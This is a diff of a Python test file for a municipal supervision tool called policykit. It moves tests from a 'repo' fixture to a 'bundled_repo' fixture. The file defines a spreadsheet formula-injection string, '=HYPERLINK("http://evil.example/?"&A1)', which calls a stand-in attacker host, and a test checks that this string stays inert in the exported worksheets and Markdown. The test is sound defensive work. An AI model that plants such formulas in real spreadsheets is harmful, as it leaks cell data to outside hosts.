@@ -7,6 +7,7 @@ import openpyxl
 import pytest
 
 import policykit
+from gitrepo import copy_bundled
 from policykit.cli import main
 from policykit.supervision import results
 from policykit.supervision.problem_sources import import_problems
@@ -15,17 +16,12 @@ ROOT = Path(__file__).resolve().parents[1]
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
 
 
-@pytest.fixture(scope="module")
-def repo():
-    return policykit.open_repository(ROOT)
-
-
 def _line(path: Path, line: int) -> str:
     return path.read_text(encoding="utf-8").splitlines()[line - 1]
 
 
-def test_repeated_buck_passing_without_a_boundary_proposes_one_citing_each_problem(repo):
-    proposals = results.worklist(repo, "2025")
+def test_repeated_buck_passing_without_a_boundary_proposes_one_citing_each_problem(bundled_repo):
+    proposals = results.worklist(bundled_repo, "2025")
     [smoke] = [p for p in proposals if p.kind == results.KIND_NEW_BOUNDARY and p.subject == "餐饮油烟扰民"]
     assert set(smoke.departments) == {"scjgj", "sthjj", "zhzfj"}
     problem_ids = [e.ref for e in smoke.evidence if e.type.startswith("问题")]
@@ -36,14 +32,14 @@ def test_repeated_buck_passing_without_a_boundary_proposes_one_citing_each_probl
     # a matter that has a boundary matter and keeps producing 推诿 asks for the matter to be revised
     assert any(p.kind == results.KIND_FIX_BOUNDARY and p.subject.startswith("BJ-011") for p in proposals)
     # below the threshold nothing is proposed
-    assert not any(p.subject == "小区二次供水" for p in results.worklist(repo, "2025", threshold=3))
+    assert not any(p.subject == "小区二次供水" for p in results.worklist(bundled_repo, "2025", threshold=3))
 
 
-def test_idle_items_found_by_the_evaluation_are_proposed_for_review(repo):
-    cards = results.evaluated(repo, "2025")
-    proposals = results.worklist(repo, "2025", cards=cards)
+def test_idle_items_found_by_the_evaluation_are_proposed_for_review(bundled_repo):
+    cards = results.evaluated(bundled_repo, "2025")
+    proposals = results.worklist(bundled_repo, "2025", cards=cards)
     idle = [p for p in proposals if p.kind == results.KIND_ITEM]
-    assert idle and all(repo.item(p.subject.split()[0]) is not None for p in idle)
+    assert idle and all(bundled_repo.item(p.subject.split()[0]) is not None for p in idle)
     assert all(any(e.type == "履职评估" for e in p.evidence) for p in idle)
 
 
@@ -86,7 +82,7 @@ def test_hostile_strings_stay_text_in_the_worklist_xlsx_and_markdown(city, tmp_p
     assert '=HYPERLINK\\("http://evil.example/?"&amp;A1\\)' in md
 
 
-def test_assessment_export_has_one_row_per_department(tmp_path, repo):
+def test_assessment_export_has_one_row_per_department(tmp_path, bundled_repo):
     out = tmp_path / "考核.xlsx"
     assert main(["results", "--period", "2025", "--root", str(ROOT), "--assessment", str(out),
                  "--worklist", str(tmp_path / "w.md")]) == 0
@@ -94,7 +90,7 @@ def test_assessment_export_has_one_row_per_department(tmp_path, repo):
     header = [c.value for c in ws[2]]
     assert header == results.ASSESSMENT_HEADER
     rows = [[c.value for c in r] for r in ws.iter_rows(min_row=3)]
-    assert sorted(r[1] for r in rows) == sorted(repo.departments)
+    assert sorted(r[1] for r in rows) == sorted(bundled_repo.departments)
     scored = [r for r in rows if r[15] != "未评估"]
     assert scored and all(isinstance(r[5], (int, float)) and r[5] <= r[6] for r in scored)
     assert [r[5] for r in scored] == sorted((r[5] for r in scored), reverse=True)
@@ -115,12 +111,12 @@ XF2025002,2025-13-01,日期写错的一行,市住房城乡建设局,,,
 """
 
 
-def test_other_sources_come_through_the_accounted_12345_path(tmp_path, repo):
+def test_other_sources_come_through_the_accounted_12345_path(tmp_path, bundled_repo):
     csv = tmp_path / "xf-2025.csv"
     csv.write_text(LETTERS, encoding="utf-8")
     out = tmp_path / "lists" / "problems" / "xf-2025.yaml"
     out.parent.mkdir(parents=True)
-    result = import_problems(csv, out, repo, source="信访")
+    result = import_problems(csv, out, bundled_repo, source="信访")
     assert result.imported == ["XF-XF2025001"] and [line for line, _ in result.skipped] == [3]
     assert result.rows == 2 and any(p.line == 3 for p in result.problems)
     text = out.read_text(encoding="utf-8")
@@ -134,10 +130,10 @@ def test_other_sources_come_through_the_accounted_12345_path(tmp_path, repo):
     assert not again.load_problems and again.records["problem"][0][1]["source"] == "信访"
     # re-import: the same bytes
     before = out.read_bytes()
-    import_problems(csv, out, repo, source="信访")
+    import_problems(csv, out, bundled_repo, source="信访")
     assert out.read_bytes() == before
     with pytest.raises(Exception, match="未知的问题来源"):
-        import_problems(csv, out, repo, source="微博")
+        import_problems(csv, out, bundled_repo, source="微博")
 
 
 def test_cli_import_problems_reports_rows_and_exits_1_on_errors(tmp_path, capsys):
@@ -158,10 +154,7 @@ FY2025003,2025-07-01,申请人不服检查结论,市商务局,,单用途商业�
 
 
 def test_overturned_administrative_reviews_point_at_the_departments_processes(tmp_path):
-    root = tmp_path / "city"
-    shutil.copytree(ROOT / "lists", root / "lists")
-    shutil.copytree(ROOT / "schemas", root / "schemas")
-    shutil.copy(ROOT / "policykit.yaml", root / "policykit.yaml")
+    root = copy_bundled(tmp_path / "city", "schemas")
     csv = tmp_path / "fy.csv"
     csv.write_text(REVIEWS, encoding="utf-8")
     result = import_problems(csv, root / "lists" / "problems" / "fy-2025.yaml", policykit.open_repository(root),
